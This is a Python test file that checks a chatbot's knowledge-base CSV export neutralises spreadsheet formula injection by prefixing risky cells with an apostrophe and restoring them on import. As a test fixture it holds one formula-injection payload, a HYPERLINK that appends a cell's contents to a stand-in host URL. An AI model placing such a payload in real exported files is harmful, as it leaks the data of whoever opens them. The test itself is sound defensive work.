"""CSV files open in spreadsheets: text that would run as a formula is written as text
(a leading apostrophe) and read back unchanged."""

from __future__ import annotations

import dataclasses

from bot.kb_files import read_dir
from bot.kb_sheets import read_csv, write_csv
from bot.settings import ROOT
from bot.sheet_cells import defuse, restore

ATTACK = '=HYPERLINK("https://example.invalid/?x="&A1,"bấm vào đây")'


def test_formula_cells_are_defused_and_restored() -> None:
    for text in (ATTACK, "+84 905", "-5", "@SUM(A1)", "\tx"):
        assert defuse(text) == "'" + text and restore(str(defuse(text))) == text
    assert defuse("VNeID là gì") == "VNeID là gì" and defuse(-5) == -5  # numbers stay numbers
    assert restore("'bình thường") == "'bình thường"  # an apostrophe the editor typed stays


def test_knowledge_base_csv_export_is_safe_and_round_trips() -> None:
    groups = read_dir(ROOT / "knowledge" / "entries")
    first = groups[0]
    entry = dataclasses.replace(first.entries[0], answer=ATTACK, question="@" + first.entries[0].question)
    groups[0] = dataclasses.replace(first, entries=[entry, *first.entries[1:]])
    data = write_csv(groups)
    assert b'"=HYPERLINK' not in data and b",=HYPERLINK" not in data  # no cell starts with "="
    assert b"'=HYPERLINK" in data
    back = read_csv(data)
    assert back[0].entries[0].answer == ATTACK and back[0].entries[0].question == entry.question
